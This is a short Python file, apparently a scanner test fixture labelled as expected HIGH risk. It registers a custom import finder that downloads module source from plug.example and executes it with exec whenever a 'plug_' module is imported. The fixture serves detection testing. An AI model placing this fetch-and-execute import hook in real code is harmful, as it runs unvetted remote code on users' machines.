# expect: HIGH
import sys
import types
import urllib.request

class RemoteFinder:
    @classmethod
    def find_spec(cls, name, path=None, target=None):
        import importlib.machinery
        if not name.startswith("plug_"):
            return None
        return importlib.machinery.ModuleSpec(name, cls())

    def create_module(self, spec):
        return types.ModuleType(spec.name)

    def exec_module(self, module):
        code = urllib.request.urlopen(f"https://plug.example/{module.__name__}.py").read()
        exec(compile(code, module.__name__, "exec"), module.__dict__)

sys.meta_path.insert(0, RemoteFinder)
import plug_a
